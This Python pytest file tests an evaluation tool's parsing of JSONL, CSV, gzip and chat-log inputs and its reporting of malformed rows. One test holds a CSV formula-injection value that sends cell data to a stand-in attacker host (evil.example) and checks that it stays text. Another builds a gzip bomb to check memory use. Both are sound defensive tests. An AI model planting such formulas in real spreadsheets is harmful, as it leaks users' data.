"""Every kind of input, whole and broken: what is read, and how a bad row is named."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from msgspec import Raw

from fairwitness.batch import csv_rows, json_rows
from fairwitness.batch.columns import Columns, choose, unread_reference
from fairwitness.batch.rows import BadInput, Row
from tests.batch.judging import errors_of, lines_of, quick, run_over, some_rows, write_lines

ROW = {"prompt": "What is 2+2?", "response": "2 + 2 = 4."}


def as_csv(rows: list[dict[str, Any]], delimiter: str = ",") -> str:
    text = io.StringIO()
    writer = csv.DictWriter(text, list(rows[0]), delimiter=delimiter)
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue()


def evaluations(path: Path) -> list[Any]:
    return [line["evaluation"] for line in lines_of(path)]


def test_every_format_says_the_same(tmp_path: Path) -> None:
    plain = [{**row, "model": 'a,\n"b"'} for row in some_rows(9)]
    lines = "".join(json.dumps(row) + "\n" for row in plain).encode()
    forms: dict[str, bytes] = {
        "rows.jsonl": lines,
        "marked.jsonl": b"\xef\xbb\xbf" + lines.replace(b"\n", b"\r\n\r\n"),
        "rows.jsonl.gz": gzip.compress(lines),
        "rows.csv": as_csv(plain).encode(),
        "rows.tsv": as_csv(plain, "\t").encode(),
        "rows.csv.gz": gzip.compress(b"\xef\xbb\xbf" + as_csv(plain).encode()),
        "rows.json": json.dumps(plain).encode(),
        "pretty.json": json.dumps(
            [{**row, "nested": {"a": [1]}} for row in plain], indent=2
        ).encode(),
        "results.json": json.dumps({"results": {"version": 3, "results": plain}}).encode(),
        "unnamed": lines,
        "unnamed_table": as_csv(plain).encode(),
    }
    found = {}
    for name, content in forms.items():
        (tmp_path / name).write_bytes(content)
        output = tmp_path / "out" / f"{name}.results"
        output.parent.mkdir(exist_ok=True)
        run_over(tmp_path / name, output)
        found[name] = [
            (line["id"], line["prompt"], line["model"], line["evaluation"])
            for line in lines_of(output)
        ]
    assert len(found["rows.jsonl"]) == 9
    for name, told in found.items():
        assert told == found["rows.jsonl"], name


def test_a_folder_is_read_in_order_of_names_and_its_results_are_not(tmp_path: Path) -> None:
    folder = tmp_path / "answers"
    (folder / "deep").mkdir(parents=True)
    write_lines(folder / "b.jsonl", [{**ROW, "id": "b"}])
    (folder / "a.csv").write_text(as_csv([{**ROW, "id": "a"}]))
    write_lines(folder / "deep" / "c.jsonl", [{**ROW, "id": "c"}, {"prompt": "No response"}])
    (folder / "README.md").write_text("not rows")
    output = folder / "results.jsonl"
    run_over(folder, output, on_error="skip")
    assert [line["id"] for line in lines_of(output)] == ["a", "b", "c", 4]
    assert errors_of(output)[3] == "deep/c.jsonl:2: column 'id' is missing"
    assert not any(event.is_new for event in run_over(folder, output, on_error="skip"))


def test_numbers_and_nesting_come_back_as_they_were_written(tmp_path: Path) -> None:
    text = '{"prompt":"Hi","response":"Hello.","n":1e400,"big":123456789012345678901234567890,"x":[1.0, {"a":null}]}'
    path = tmp_path / "rows.jsonl"
    path.write_text(text + "\n")
    run_over(path, tmp_path / "out.jsonl")
    assert (tmp_path / "out.jsonl").read_text().startswith(text[:-1] + ',"id":1,')


def test_cells_that_a_spreadsheet_would_run_stay_text(tmp_path: Path) -> None:
    cell = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    path = tmp_path / "rows.csv"
    path.write_text(as_csv([{"prompt": "Hi", "response": cell, "note": "@SUM(1)"}]))
    run_over(path, tmp_path / "out.jsonl")
    (line,) = lines_of(tmp_path / "out.jsonl")
    assert (line["response"], line["note"]) == (cell, "@SUM(1)")


BAD_LINES: list[tuple[bytes, str]] = [
    (
        b'{"prompt": "a", "response": "\xff"}',
        "column 'response': not valid UTF-8 (byte 30 of the row)",
    ),
    (b'{"prompt": "a", "response": "b", "other": "\xc3"}', "column 'other': not valid UTF-8"),
    (b'{"prompt": "a"', "not valid JSON: Input data was truncated"),
    (b'{"prompt": "a", "response": NaN}', "not valid JSON: invalid character (byte 28)"),
    (b'["a", "b"]', "not a JSON object"),
    (b"[" * 5000, "not a JSON object"),
    (b'{"prompt": ' + b"[" * 5000 + b"]" * 5000 + b"}", "nested too deeply"),
    (b'{"prompt": "a"}', "column 'response' is missing"),
    (b'{"prompt": "a", "response": 7}', "column 'response': must be text, not a number"),
    (b'{"prompt": null, "response": "b"}', "column 'prompt': must be text, not null"),
    (b'{"prompt": "a", "response": ["b"]}', "column 'response': a message must be an object"),
    (b'{"prompt": "a", "response": ""}', "response: must not be empty"),
    (b'{"prompt": "a", "response": "b", "error": "x"}', "column 'error': results have a column"),
    (b'{"prompt": "a", "response": "b", "id": 7}', "column 'id': results have a column"),
]


@pytest.mark.parametrize(("line", "fault"), BAD_LINES)
def test_a_bad_row_is_named_by_line_and_column_and_keeps_its_place(
    tmp_path: Path, line: bytes, fault: str
) -> None:
    good = json.dumps(ROW).encode() + b"\n"
    path, output = tmp_path / "rows.jsonl", tmp_path / "out.jsonl"
    path.write_bytes(good * 6 + b"\n" + line + b"\n" + good)
    with pytest.raises(BadInput) as stopped:
        run_over(path, output)
    assert str(stopped.value).startswith(f"rows.jsonl:8: {fault}")
    assert len(lines_of(output)) == 6, "what was done is kept"
    # The run that stopped goes on with the other answer to errors.
    told = run_over(path, output, on_error="skip")
    assert [event.is_new for event in told] == [False] * 6 + [True] * 2
    errors = errors_of(output)
    assert errors[:6] == [None] * 6
    assert errors[7] is None
    assert str(errors[6]).startswith(f"rows.jsonl:8: {fault}")
    assert "evaluation" not in lines_of(output)[6]


def test_bad_rows_of_a_table_are_named_by_the_line_they_begin_at(tmp_path: Path) -> None:
    path, output = tmp_path / "rows.csv", tmp_path / "out.jsonl"
    path.write_bytes(
        b'prompt,response\nHi,"two\nlines"\nHi\nHi,Hello,more\nHi,\xff\nHi,"a"b\nHi,Hello.\n'
    )
    run_over(path, output, on_error="skip")
    assert errors_of(output) == [
        None,
        "rows.csv:4: has 1 cells where the header has 2",
        "rows.csv:5: has 3 cells where the header has 2",
        "rows.csv:6: column 'response': not valid UTF-8",
        "rows.csv:7: not valid CSV: ',' expected after '\"'",
        None,
    ]


def test_compressed_data_that_end_early_keep_what_came_before(tmp_path: Path) -> None:
    rows = [{**row, "n": n} for n, row in enumerate(some_rows(1500))]
    packed = gzip.compress("".join(json.dumps(row) + "\n" for row in rows).encode())
    path, output = tmp_path / "rows.jsonl.gz", tmp_path / "out.jsonl"
    path.write_bytes(packed[: len(packed) * 3 // 4])
    for workers in (1, 2):
        with pytest.raises(BadInput, match=r"rows.jsonl.gz:\d+: the compressed data end early"):
            run_over(path, output, overwrite=True, workers=workers)
        assert 200 < len(lines_of(output)) < 1500
    path.write_bytes(packed[:-8] + b"\0" * 8)  # its checksum and length
    with pytest.raises(BadInput, match=r"rows.jsonl.gz:\d+: the compressed data are damaged: CRC"):
        run_over(path, output, overwrite=True)


def test_a_row_too_long_is_refused_without_being_held(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(json_rows, "MAX_ROW_BYTES", 1000)
    monkeypatch.setattr(csv_rows, "MAX_ROW_BYTES", 1000)
    good = json.dumps(ROW).encode() + b"\n"
    path, output = tmp_path / "rows.jsonl", tmp_path / "out.jsonl"
    path.write_bytes(good + b"x" * 10_000 + b"\n" + good)
    run_over(path, output, on_error="skip")
    assert errors_of(output) == [None, "rows.jsonl:2: longer than 1,000 bytes", None]
    path.write_bytes(good + b"\n" * 990 + good + b"\n" * 1001 + good)
    with pytest.raises(BadInput, match=r"rows.jsonl:1993: over 1,000 bytes of blank lines"):
        run_over(path, tmp_path / "blank.jsonl", on_error="skip")
    table = tmp_path / "rows.csv"
    table.write_text("prompt,response\nHi,Hello.\n" + "\n" * 1001 + "Hi,Hello.\n")
    with pytest.raises(BadInput, match=r"rows.csv:1003: over 1,000 bytes of blank lines"):
        run_over(table, tmp_path / "blank2.jsonl", on_error="skip")
    table.write_text('prompt,response\nHi,Hello.\nHi,"' + "open quote\n" * 500)
    with pytest.raises(
        BadInput, match=r"rows.csv:3: a row longer than 1,000 bytes; is a quote left"
    ):
        run_over(table, tmp_path / "out2.jsonl", on_error="skip")


def test_a_gzip_bomb_costs_no_memory(tmp_path: Path) -> None:
    """600 MB without a line break, in 600 kB: the run ends, and never held more than one row may."""
    good = json.dumps(ROW).encode() + b"\n"
    path = tmp_path / "rows.jsonl.gz"
    block = gzip.compress(b" " * 20_000_000, 1)
    path.write_bytes(gzip.compress(good + b"{") + block * 30)
    code = (
        "import resource, sys; from pathlib import Path; from tests.batch.judging import run_over\n"
        "from fairwitness.batch.rows import BadInput\n"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "try: run_over(Path(sys.argv[1]), Path(sys.argv[2]))\n"
        "except BadInput as error: print(error)\n"
        "print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(path), str(tmp_path / "out.jsonl")],
        capture_output=True,
        text=True,
        check=True,
    )
    fault, megabytes = done.stdout.splitlines()
    assert fault == "rows.jsonl.gz:2: longer than 16,777,216 bytes"
    assert int(megabytes) < 150


CHATS: list[tuple[str, dict[str, Any], str | list[dict[str, str]], str]] = [
    (
        "chat messages",
        {
            "messages": [
                {"role": "user", "content": "Hi"},
                {"role": "assistant", "content": "Hello."},
            ]
        },
        "Hi",
        "Hello.",
    ),
    (
        "chat conversations",
        {
            "conversations": [
                {"from": "system", "value": "Be kind."},
                {"from": "human", "value": "Hi"},
                {"from": "gpt", "value": "Hello."},
            ]
        },
        [{"role": "system", "content": "Be kind."}, {"role": "user", "content": "Hi"}],
        "Hello.",
    ),
    (
        "chat messages",
        {
            "messages": [
                {"role": "user", "content": "Hi"},
                {"role": "assistant", "content": "Hello."},
                {"role": "user", "content": [{"type": "text", "text": "And you?"}]},
                {"role": "assistant", "content": "Well."},
            ]
        },
        [
            {"role": "user", "content": "Hi"},
            {"role": "assistant", "content": "Hello."},
            {"role": "user", "content": "And you?"},
        ],
        "Well.",
    ),
    ("prompt and completion", {"prompt": "Hi", "completion": "Hello."}, "Hi", "Hello."),
    ("prompt and output", {"prompt": "Hi", "output": "Hello."}, "Hi", "Hello."),
    (
        "OpenAI evals (question)",
        {"item": {"question": "Hi"}, "sample": {"output_text": "Hello."}},
        "Hi",
        "Hello.",
    ),
    (
        "OpenAI evals run",
        {
            "datasource_item": {},
            "sample": {
                "input": [{"role": "user", "content": "Hi"}],
                "output": [{"role": "assistant", "content": "Hello."}],
            },
        },
        "Hi",
        "Hello.",
    ),
    (
        "lm-eval samples",
        {
            "doc_id": 0,
            "arguments": {"gen_args_0": {"arg_0": "Hi", "arg_1": {}}},
            "resps": [["Hello."]],
        },
        "Hi",
        "Hello.",
    ),
    (
        "promptfoo",
        {"prompt": {"raw": "Hi", "label": "Hi"}, "response": {"output": "Hello."}, "vars": {}},
        "Hi",
        "Hello.",
    ),
]


GIVEN: dict[str, Any] = {
    "question": "How tall is it?",
    "answer": "It is 330 m tall.",
    "docs": ["The tower is 330 metres tall.", {"id": "d2", "page_content": "It is in Paris."}, ""],
    "gold": ["330 m", 330],
    "chat": [
        {"role": "developer", "content": "Be brief."},
        {"role": "user", "content": "How tall is it?"},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {"id": "c1", "type": "function", "function": {"name": "f", "arguments": "{}"}}
            ],
        },
        {"role": "tool", "content": "330", "tool_call_id": "c1"},
    ],
}
TURNS = [
    {"role": "system", "content": "Be brief."},
    {"role": "user", "content": "How tall is it?"},
    {"role": "assistant", "content": "", "toolCalls": [{"name": "f", "arguments": {}}]},
    {"role": "tool", "content": "330"},
]


@pytest.mark.parametrize(
    ("columns", "prompt", "given"),
    [
        (
            Columns("question", "answer", context="docs"),
            "How tall is it?",
            {"context": ["The tower is 330 metres tall.", "It is in Paris."]},
        ),
        (
            Columns("question", "answer", reference="gold"),
            "How tall is it?",
            {"reference": "330 m\n330"},
        ),
        (Columns(response="answer", messages="chat"), None, {"messages": TURNS}),
        (Columns("chat", "answer"), None, {"messages": TURNS}),
    ],
)
def test_what_a_response_was_given_is_judged_with_it(
    tmp_path: Path, columns: Columns, prompt: str | None, given: dict[str, Any]
) -> None:
    path, output = write_lines(tmp_path / "rows.jsonl", [GIVEN, GIVEN]), tmp_path / "out.jsonl"
    run_over(path, output, columns=columns)
    expected = quick().evaluate(prompt, GIVEN["answer"], **given).to_dict()
    assert evaluations(output) == [expected] * 2
    assert [item["code"] for item in expected["reasonDetails"]] == (
        ["context_not_read"] if "messages" not in given else []
    )
    again = tmp_path / "again.jsonl"
    run_over(path, again, columns=columns, workers=2, dedupe=True)
    assert again.read_bytes() == output.read_bytes()


def test_a_context_is_recognised_where_the_protocol_reads_it_and_rows_may_have_none() -> None:
    rows: list[dict[str, Any]] = [
        {**ROW, "contexts": ["2+2 is 4."]},
        {**ROW, "contexts": None},
        ROW,
    ]
    first, *others = (
        Row(1, "x:1", {name: Raw(json.dumps(value).encode()) for name, value in row.items()})
        for row in rows
    )
    assert choose(Columns(), first)[0].context is None
    columns, _ = choose(Columns(), first, {"context"})
    assert columns.context == "contexts"
    assert choose(Columns("prompt", "response"), first, {"context"})[1] == "a context"
    assert "context from 'contexts'" in columns.in_words()
    assert json.loads(columns.texts(first)[2]) == {"context": ["2+2 is 4."]}
    assert [len(columns.texts(row)) for row in others] == [2, 2]


@pytest.mark.parametrize(
    ("row", "columns", "fault"),
    [
        ({**ROW, "c": 7}, Columns(context="c"), "column 'c': must be text, or a list of texts"),
        ({**ROW, "c": [{}]}, Columns(context="c"), "column 'c': must be text, or a list of texts"),
        ({**ROW, "r": {}}, Columns(reference="r"), "column 'r': must be text, a number"),
        (
            {"messages": [{"role": "narrator", "content": "a"}], "response": "b"},
            Columns(response="response", messages="messages"),
            "column 'messages': a message has the role 'narrator'; known: system, user",
        ),
        (
            {"messages": [{"role": "assistant", "content": "a"}], "response": "b"},
            Columns(response="response", messages="messages"),
            "messages: the last one must not be the assistant's",
        ),
        (
            {"messages": [{"role": "user", "tool_calls": [{"function": {"name": "f"}}]}], "r": "b"},
            Columns(response="r", messages="messages"),
            "column 'messages': a tool call must have a name and arguments",
        ),
    ],
)
def test_what_was_given_and_cannot_be_read_is_named(
    tmp_path: Path, row: dict[str, Any], columns: Columns, fault: str
) -> None:
    path = write_lines(tmp_path / "rows.jsonl", [row])
    with pytest.raises(BadInput) as stopped:
        run_over(path, tmp_path / "out.jsonl", columns=columns)
    assert str(stopped.value).startswith(f"rows.jsonl:1: {fault}")


def test_a_log_of_helm_is_read_from_its_document(tmp_path: Path) -> None:
    state = {"request": {"prompt": "Hi"}, "result": {"completions": [{"text": "Hello."}]}}
    path, output = tmp_path / "scenario_state.json", tmp_path / "out.jsonl"
    path.write_text(json.dumps({"adapter_spec": {}, "request_states": [state, {}]}))
    run_over(path, output, on_error="skip")
    assert errors_of(output) == [
        None,
        "scenario_state.json:item 2: column 'request.prompt' is missing",
    ]
    path.write_text('{"adapter_spec": {"a": 1}}')
    with pytest.raises(BadInput, match="holds no list of rows that is known"):
        run_over(path, output)


def test_a_pipe_is_read_once_and_a_name_may_be_any_bytes(tmp_path: Path) -> None:
    lines = "".join(json.dumps(row) + "\n" for row in [ROW, {"prompt": "x"}])
    pipe, output = tmp_path / "pipe", tmp_path / "out.jsonl"
    os.mkfifo(pipe)
    with subprocess.Popen(
        ["tee", str(pipe)], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL
    ) as writer:
        assert writer.stdin is not None
        writer.stdin.write(lines.encode())
        writer.stdin.close()
        run_over(pipe, output, on_error="skip")
    assert errors_of(output) == [None, "pipe:2: column 'response' is missing"]
    odd = Path(os.fsdecode(os.fsencode(tmp_path) + b"/r\xff.jsonl"))
    odd.write_text(lines)
    run_over(odd, output, on_error="skip", overwrite=True)
    assert (
        errors_of(output)[1] == "r\N{REPLACEMENT CHARACTER}.jsonl:2: column 'response' is missing"
    )


@pytest.mark.parametrize(("shape", "row", "prompt", "response"), CHATS)
def test_logs_of_other_tools_are_recognised_and_said(
    tmp_path: Path, shape: str, row: dict[str, Any], prompt: str | list[Any], response: str
) -> None:
    from fairwitness.batch.sources import Input

    said: list[tuple[Columns, str, str | None]] = []
    path, output = write_lines(tmp_path / "rows.jsonl", [row]), tmp_path / "out.jsonl"
    run_over(path, output, on_columns=lambda *told: said.append(told))
    ((columns, name, unread),) = said
    assert unread is None
    assert name == shape
    (read,) = Input.of(str(path), output).rows()
    texts = columns.texts(read)
    if isinstance(prompt, list):
        assert texts[:2] == ("", response)
        assert json.loads(texts[2]) == {"messages": prompt}
    else:
        assert texts == (prompt, response)


@pytest.mark.parametrize(
    ("row", "columns", "fault"),
    [
        ({"q": "a", "a": "b"}, Columns(), "no prompt and response recognised; .* 'q', 'a'"),
        ({"q": "a", "a": "b"}, Columns("q", "b"), "no column 'b'; there are 'q', 'a'"),
        ({"q": {"text": "a"}, "a": {}, "n": 1}, Columns(), "there are 'q.text', 'a', 'n'"),
        ({**ROW, "evaluation": 1}, Columns(), "column 'evaluation': results have a column"),
        ({**ROW, "id": 1, "n": 2}, Columns(id="n"), "column 'id': results have a column"),
        ({**ROW, "n": 2}, Columns("prompt", "response", "n"), "give --messages, or"),
        ({**ROW, "n": 2}, Columns(context="docs"), "no column 'docs'; there are 'prompt'"),
    ],
)
def test_columns_that_cannot_be_used_are_refused_before_anything_is_written(
    tmp_path: Path, row: dict[str, Any], columns: Columns, fault: str
) -> None:
    path, output = write_lines(tmp_path / "rows.jsonl", [row]), tmp_path / "out.jsonl"
    with pytest.raises(BadInput, match=fault):
        run_over(path, output, columns=columns)
    assert not output.exists()


@pytest.mark.parametrize(
    ("row", "asked", "unread"),
    [
        ({**ROW, "reference": "5."}, Columns(), "reference"),
        ({**ROW, "target": "B", "ideal": ["5.", "five"]}, Columns(), "target"),
        ({**ROW, "reference": "5."}, Columns(reference="reference"), None),
        ({**ROW, "reference": {"no": "text"}}, Columns(), None),
        ({"prompt": "a", "answer": "b"}, Columns("prompt", "answer"), None),
    ],
)
def test_a_reference_is_never_taken_unasked_but_said(
    row: dict[str, Any], asked: Columns, unread: str | None
) -> None:
    first = Row(1, "rows.jsonl:1", {name: Raw(json.dumps(value).encode()) for name, value in row.items()})  # fmt: skip
    chosen, _ = choose(asked, first, {"reference"})
    assert chosen.reference == asked.reference
    assert unread_reference(chosen, first, {"reference"}) == unread
    assert unread_reference(chosen, first, {"context"}) is None


def test_an_input_without_a_row_is_refused(tmp_path: Path) -> None:
    empty = tmp_path / "empty.jsonl"
    empty.write_text("\n\n")
    with pytest.raises(BadInput, match="the input holds no row"):
        run_over(empty, tmp_path / "out.jsonl")
    with pytest.raises(BadInput, match="no such file or folder"):
        run_over(tmp_path / "absent.jsonl", tmp_path / "out.jsonl")
    (tmp_path / "bare").mkdir()
    with pytest.raises(BadInput, match=r"holds no file whose name ends in \.jsonl"):
        run_over(tmp_path / "bare", tmp_path / "out.jsonl")
    faulty = write_lines(tmp_path / "faulty.jsonl", [{"prompt": "a", "response": ""}])
    with pytest.raises(BadInput, match="none of 1 rows could be judged"):
        run_over(faulty, tmp_path / "out.jsonl", on_error="skip")
